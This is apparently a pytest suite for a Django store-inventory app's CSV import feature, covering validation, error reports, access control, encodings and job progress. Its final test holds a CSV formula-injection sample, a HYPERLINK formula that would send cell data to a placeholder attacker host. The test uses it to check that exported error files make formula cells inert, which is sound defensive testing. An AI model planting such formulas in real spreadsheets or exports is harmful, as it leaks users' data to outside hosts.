"""Import jobs end to end: upload, run as a worker would, read counts, rows and errors."""

from __future__ import annotations

import csv
import hashlib
import io
from decimal import Decimal

import pytest

from shelfwatch.catalog.models import Product
from shelfwatch.events.models import Event
from shelfwatch.imports.models import ImportJob, ImportRow
from shelfwatch.inventory.models import StockItem, StockMovement

pytestmark = pytest.mark.django_db

GOOD_AND_BAD = (
    "Product Name,Qty,MRP,EAN,Item Code,Net Quantity\n"
    "Tata Salt Iodised,40,Rs. 28,8901234567890,TS-1,1 kg\n"  # line 2: valid GTIN
    "Fortune Sunflower Oil,-2,\u20b9175.00,,FO-1,1 l\n"  # line 3: negative quantity
    "Aashirvaad Atta,10,free,,AA-1,5 kg\n"  # line 4: bad price
    "Parle G Biscuit,24,10,8901234567891,PG-1,100 g\n"  # line 5: bad check digit
    "Maggi Noodles,30,14,8901234567890,MG-1,70 g\n"  # line 6: barcode of line 2 again
    "Surf Excel,12\n"  # line 7: ragged
    "\n"  # line 8: blank
    "Amul Butter,8,\u20b91,299.00,,AB-1,500 g\n"  # line 9: quoted? no -> ragged (7 cells)
    'Amul Butter,8,"\u20b91,299.00",,AB-1,500 g\n'  # line 10: good
)


def test_good_rows_land_and_each_bad_row_is_reported_with_line_and_column(upload, run):
    response = upload(GOOD_AND_BAD.encode())
    assert response.status_code == 202, response.content
    body = response.json()
    assert body["status"] == "queued" and body["encoding"] == "utf-8"
    assert body["mapping"]["EAN"] == "barcode"
    job = run(body["id"])
    assert job.status == "completed"
    assert (job.total_rows, job.processed) == (9, 9)
    outcomes = {row.line: row for row in ImportRow.objects.filter(job=job)}
    assert (job.successful, job.failed, job.skipped) == (2, 6, 0)
    assert sorted(outcomes) == [2, 3, 4, 5, 6, 7, 9, 10]  # the blank line is not a row
    assert outcomes[2].status == "created" and outcomes[10].status == "created"
    assert (outcomes[3].column, outcomes[3].code) == ("Qty", "negative_quantity")
    assert (outcomes[4].column, outcomes[4].code) == ("MRP", "invalid_price")
    assert (outcomes[5].column, outcomes[5].code) == ("EAN", "invalid_barcode")
    assert outcomes[6].code == "repeated_barcode" and "line 2" in outcomes[6].message
    assert outcomes[7].code == "ragged_row" and outcomes[9].code == "ragged_row"

    salt = StockItem.objects.get(product__barcode="8901234567890")
    assert (salt.quantity, salt.selling_price, salt.sku) == (40, Decimal("28.00"), "TS-1")
    assert (salt.product.net_quantity, salt.product.net_unit) == (Decimal("1000.000"), "g")
    assert salt.product.status == "pending"
    butter = StockItem.objects.get(sku="AB-1")
    assert butter.selling_price == Decimal("1299.00")
    ledger = StockMovement.objects.get(item=salt)
    assert (ledger.delta, ledger.reason, ledger.reference) == (40, "import", f"import {job.pk}")
    assert Event.objects.filter(type="stock.changed").count() == 2
    progress = Event.objects.filter(type="imports.progress").last()
    assert progress.payload["processed"] == 9 and f"store:{job.store_id}" in progress.topics
    assert Event.objects.filter(type="imports.finished").count() == 1


def test_the_errors_file_gives_back_the_original_rows_with_an_error_column(
    upload, run, callers, store_a
):
    job = run(upload(GOOD_AND_BAD.encode()).json()["id"])
    caller = callers["staff_a"]
    response = caller.get(f"/api/v1/stores/{store_a.pk}/imports/{job.pk}/errors.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == [*job.header, "line", "error"]
    assert [row[-2] for row in rows[1:]] == ["3", "4", "5", "6", "7", "9"]
    negative = rows[1]
    assert negative[:2] == ["Fortune Sunflower Oil", "-2"]
    assert negative[-1].startswith("Qty: the quantity cannot be negative")


def test_row_outcomes_page_with_a_cursor_and_filter_by_status(upload, run, callers, store_a):
    job = run(upload(GOOD_AND_BAD.encode()).json()["id"])
    base = f"/api/v1/stores/{store_a.pk}/imports/{job.pk}/rows"
    first = callers["staff_a"].get(base + "?limit=5").json()
    second = callers["staff_a"].get(base + f"?limit=5&cursor={first['next_cursor']}").json()
    lines = [row["line"] for row in first["items"] + second["items"]]
    assert lines == [2, 3, 4, 5, 6, 7, 9, 10] and second["next_cursor"] is None
    failed = callers["staff_a"].get(base + "?status=failed").json()["items"]
    assert {row["status"] for row in failed} == {"failed"} and len(failed) == 6
    shown = callers["staff_a"].get(f"/api/v1/stores/{store_a.pk}/imports/{job.pk}").json()
    assert (shown["processed"], shown["successful"], shown["failed"]) == (9, 2, 6)


def test_other_stores_and_customers_reach_no_import(upload, run, callers, store_a, store_b):
    job_id = upload(b"name,qty\nDal,5\n").json()["id"]
    assert upload(b"name,qty\nDal,5\n", caller="owner_b").status_code == 404
    assert upload(b"name,qty\nDal,5\n", caller="customer").status_code == 404
    assert upload(b"name,qty\nDal,5\n", caller="anon").status_code == 401
    for path in ("", "/rows", "/errors.csv"):
        url = f"/api/v1/stores/{store_a.pk}/imports/{job_id}{path}"
        assert callers["owner_b"].get(url).status_code == 404
        # Store B's owner asking through their own store id does not reach A's job either.
        other = f"/api/v1/stores/{store_b.pk}/imports/{job_id}{path}"
        assert callers["owner_b"].get(other).status_code == 404
    assert callers["admin"].get(f"/api/v1/stores/{store_a.pk}/imports/{job_id}").status_code == 200


def test_rows_find_products_by_barcode_then_by_the_stores_sku(upload, run, store_a):
    known = Product.objects.create(name="Tata Salt", barcode="8901234567890", status="verified")
    other = Product.objects.create(name="Loose Sugar", status="verified")
    item = StockItem.objects.create(store=store_a, product=other, sku="SUG-1", quantity=3)
    content = "barcode,sku,qty,price\n8901234567890,,7,30\n,SUG-1,1,45\n"
    job = run(upload(content.encode()).json()["id"])
    assert (job.successful, job.failed) == (2, 0)
    assert StockItem.objects.get(store=store_a, product=known).quantity == 7
    item.refresh_from_db()
    assert (item.quantity, item.selling_price) == (1, Decimal("45.00"))
    statuses = dict(ImportRow.objects.filter(job=job).values_list("line", "status"))
    assert statuses == {2: "created", 3: "updated"}
    assert Product.objects.count() == 2  # nothing created twice
    take = StockMovement.objects.get(item=item)
    assert (take.delta, take.quantity_after) == (-2, 1)


def test_a_confident_catalog_match_is_linked_and_counted_as_a_duplicate(upload, run, store_a):
    from shelfwatch.catalog.products import build_search_text

    product = Product.objects.create(
        name="Amul Butter", brand="Amul", net_quantity=500, net_unit="g", status="verified"
    )
    product.search_text = build_search_text(product)
    product.save()
    job = run(upload(b"name,brand,size,qty\nAmul Butter,Amul,500 g,9\n").json()["id"])
    row = ImportRow.objects.get(job=job)
    assert row.status == "matched" and row.product_id == product.pk
    assert job.duplicates_found == 1 and Product.objects.count() == 1
    assert StockItem.objects.get(store=store_a, product=product).quantity == 9


@pytest.mark.parametrize(
    ("mode", "outcomes"),
    [("create", ("skipped", "created")), ("update", ("updated", "skipped"))],
)
def test_modes_create_only_or_update_only(upload, run, store_a, mode, outcomes):
    stocked = Product.objects.create(name="Rice", barcode="8901234567890", status="verified")
    StockItem.objects.create(store=store_a, product=stocked, quantity=1)
    content = b"barcode,name,qty\n8901234567890,Rice,5\n4006381333931,Pencil,2\n"
    job = run(upload(content, mode=mode).json()["id"])
    statuses = tuple(ImportRow.objects.filter(job=job).values_list("status", flat=True))
    assert statuses == outcomes
    assert StockItem.objects.get(product=stocked).quantity == (5 if mode == "update" else 1)
    assert Product.objects.filter(barcode="4006381333931").exists() == (mode == "create")


def test_the_same_file_again_warns_and_runs_only_when_asked(upload, run):
    content = b"name,qty\nDal,5\n"
    first = upload(content).json()
    run(first["id"])
    again = upload(content)
    assert again.status_code == 409 and again.json()["code"] == "duplicate_file"
    assert again.json()["job_id"] == first["id"]
    assert upload(content, allow_repeat="true").status_code == 202


WIDE = (",".join(f"c{i}" for i in range(101)) + "\nname" + ",1" * 100 + "\n").encode()


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "empty_file"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary_file"),
        (b"name,qty\n", "no_rows"),
        (b"name,qty\n\n,\n  \n", "no_rows"),
        (b"name,name\nDal,Rice\n", "duplicate_column"),
        (b"colour,size\nred,1\n", "no_identifying_column"),
        (WIDE, "too_many_columns"),
    ],
)
def test_files_that_cannot_be_imported_are_refused_whole(upload, content, code):
    response = upload(content)
    assert response.status_code == 422, response.content
    assert response.json()["code"] == code
    assert ImportJob.objects.count() == 0


def test_a_file_over_the_size_limit_is_413(upload, settings):
    settings.IMPORT_MAX_BYTES = 100
    response = upload(b"name,qty\n" + b"Dal,5\n" * 40)
    assert response.status_code == 413 and response.json()["code"] == "file_too_large"
    assert ImportJob.objects.count() == 0


def test_the_preview_shows_twenty_rows_as_read_and_writes_nothing(upload):
    content = "Item;Rate;Stock\n" + "".join(f"Item {i};Rs. {i},00;{i}\n" for i in range(30))
    response = upload(content.encode("cp1252"), path="/preview", mapping='{"Stock": "quantity"}')
    assert response.status_code == 200, response.content
    body = response.json()
    assert (body["encoding"], body["delimiter"]) == ("utf-8", ";")
    assert body["mapping"] == {"Item": "name", "Rate": "selling_price", "Stock": "quantity"}
    assert len(body["rows"]) == 20 and body["rows"][0]["line"] == 2
    assert body["rows"][3]["fields"]["quantity"] == "3"
    assert ImportJob.objects.count() == 0 and Product.objects.count() == 0


def test_cancelling_a_queued_job_means_it_never_runs(upload, run, callers, store_a):
    job_id = upload(b"name,qty\nDal,5\n").json()["id"]
    url = f"/api/v1/stores/{store_a.pk}/imports/{job_id}/cancel"
    assert callers["staff_a"].post(url).json()["status"] == "cancelled"
    assert run(job_id) is None
    again = callers["staff_a"].post(url)
    assert again.status_code == 409 and again.json()["code"] == "import_ended"
    assert (again.json()["status"], again.json()["current_status"]) == (409, "cancelled")
    assert StockItem.objects.count() == 0


def test_a_job_cancelled_while_it_runs_stops_before_its_next_batch(upload, store_a, settings):
    from shelfwatch.imports.lifecycle import cancel_job
    from shelfwatch.imports.processing import run_job

    settings.IMPORT_BATCH_SIZE = 2
    content = "name,qty\n" + "".join(f"Widget {i},1\n" for i in range(6))
    job_id = upload(content.encode()).json()["id"]

    def cancel_after_first_batch(job):
        if job.processed == 2:
            cancel_job(job=ImportJob.objects.get(pk=job.pk))

    job = run_job(job_id, owner="w", progress=cancel_after_first_batch)
    assert job.status == "cancelled" and job.processed == 2
    assert StockItem.objects.filter(store=store_a).count() == 2


@pytest.mark.parametrize(
    ("language", "subject", "text"),
    [("en", "2 imported, 6 failed", "Failed: 6"), ("hi", "2 इम्पोर्ट, 6 विफल", "विफल: 6")],
)
def test_the_uploader_with_a_verified_email_is_told_the_counts(
    upload, run, callers, language, subject, text
):
    from django.utils import timezone

    from shelfwatch.notify.messages import build_message
    from shelfwatch.notify.models import Contact, Notification

    staff = callers["users"]["staff_a"]
    Contact.objects.create(
        user=staff,
        channel="email",
        address=staff.email,
        verified_at=timezone.now(),
        language=language,
    )
    job = run(upload(GOOD_AND_BAD.encode()).json()["id"])
    note = Notification.objects.get(template="import_finished")
    message = build_message(note)
    assert subject in message.subject
    assert f"/stores/{job.store_id}/imports/jobs/{job.pk}/" in message.text
    assert text in message.text


def test_an_uploader_without_a_verified_email_gets_no_message(upload, run, callers):
    from shelfwatch.notify.models import Contact, Notification

    staff = callers["users"]["staff_a"]
    Contact.objects.create(user=staff, channel="email", address=staff.email)
    job = run(upload(b"name,qty\nDal,5\n").json()["id"])
    assert job.status == "completed" and not Notification.objects.exists()
    finished = Event.objects.get(type="imports.finished")
    assert f"user:{staff.pk}" in finished.topics


def test_a_name_alike_product_with_another_barcode_is_not_linked(upload, run, store_a):
    from shelfwatch.catalog.products import build_search_text

    product = Product.objects.create(
        name="Amul Butter", brand="Amul", net_quantity=500, net_unit="g", status="verified"
    )
    product.barcode = "8901234567890"
    product.search_text = build_search_text(product)
    product.save()
    content = b"name,brand,size,ean,qty\nAmul Butter,Amul,500 g,4006381333931,2\n"
    job = run(upload(content).json()["id"])
    row = ImportRow.objects.get(job=job)
    assert row.status == "created" and row.product_id != product.pk
    assert job.duplicates_found == 0
    assert Product.objects.get(pk=row.product_id).barcode == "4006381333931"


@pytest.mark.parametrize("encoding", ["utf-16", "cp1252", "utf-8-sig"])
def test_files_in_each_encoding_import_their_text_intact(upload, run, store_a, encoding):
    content = "Item Name\tQty\tMRP\nCaf\u00e9 Coffee \u2013 Filter\t3\t\u20ac5\n"
    if encoding == "cp1252":
        content = content.replace("\u20ac5", "5")
    job = run(upload(content.encode(encoding)).json()["id"])
    assert (job.encoding, job.delimiter, job.successful) == (encoding, "\t", 1)
    assert StockItem.objects.get(store=store_a).product.name == "Caf\u00e9 Coffee \u2013 Filter"


def test_an_over_long_line_fails_alone_and_the_rows_around_it_land(upload, run, settings):
    settings.IMPORT_MAX_LINE_CHARS = 200
    content = b"name,qty\nDal,1\n" + b"x" * 5000 + b",2\nRice,3\n"
    job = run(upload(content).json()["id"])
    rows = dict(ImportRow.objects.filter(job=job).values_list("line", "status"))
    assert rows == {2: "created", 3: "failed", 4: "created"}
    assert "longer than 200" in ImportRow.objects.get(job=job, line=3).message


@pytest.mark.parametrize(
    ("form", "code"),
    [
        ({"mode": "merge"}, "invalid_mode"),
        ({"mapping": "[1, 2]"}, "invalid_mapping"),
        ({"mapping": "{not json"}, "invalid_mapping"),
        ({"mapping": '{"Colour": "name"}'}, "unknown_column"),
        ({"mapping": '{"name": "colour"}'}, "unknown_field"),
    ],
)
def test_bad_options_are_refused_with_their_own_code(upload, form, code):
    response = upload(b"name,qty\nDal,5\n", **form)
    assert response.status_code == 422 and response.json()["code"] == code
    assert ImportJob.objects.count() == 0


def test_a_file_large_enough_to_spill_to_disk_is_previewed_and_stored_whole(upload, settings):
    from django.core.files.storage import default_storage

    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 64 * 1024
    content = ("name,qty\n" + "".join(f"Item {n},{n}\n" for n in range(40_000))).encode()
    assert len(content) > settings.FILE_UPLOAD_MAX_MEMORY_SIZE
    preview = upload(content, path="/preview")
    assert preview.status_code == 200 and len(preview.json()["rows"]) == 20
    job = upload(content).json()
    assert job["sha256"] == hashlib.sha256(content).hexdigest() and job["size"] == len(content)
    with default_storage.open(ImportJob.objects.get(pk=job["id"]).file_name, "rb") as stored:
        assert stored.read() == content


def test_store_staff_follow_an_imports_progress_on_their_store_topic(
    upload, run, callers, store_a, settings
):
    settings.IMPORT_BATCH_SIZE = 2
    content = "name,qty\n" + "".join(f"Widget {n},1\n" for n in range(5))
    job = run(upload(content.encode()).json()["id"])
    url = f"/api/v1/events?topics=store:{store_a.pk}&limit=200"
    events = callers["staff_a"].get(url).json()["events"]
    progress = [e["payload"] for e in events if e["type"] == "imports.progress"]
    assert [(p["processed"], p["total_rows"]) for p in progress] == [(2, 5), (4, 5), (5, 5)]
    finished = [e["payload"] for e in events if e["type"] == "imports.finished"]
    assert finished == [{**progress[-1], "status": "completed"}] and job.successful == 5
    # Another store's owner may not follow this store's topic.
    assert callers["owner_b"].get(url).status_code == 403


def test_the_errors_file_makes_formula_cells_inert_and_keeps_plain_numbers(
    upload, run, callers, store_a
):
    content = (
        'name,qty,mrp\n"=HYPERLINK(""http://evil.example/?""&A1,""click"")",-3,40\n'
        "@SUM(1+1),5,-12.50\n"
    )
    job = run(upload(content.encode()).json()["id"])
    response = callers["staff_a"].get(f"/api/v1/stores/{store_a.pk}/imports/{job.pk}/errors.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][:2] == ['\'=HYPERLINK("http://evil.example/?"&A1,"click")', "-3"]
    assert rows[2][:3] == ["'@SUM(1+1)", "5", "-12.50"]
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)
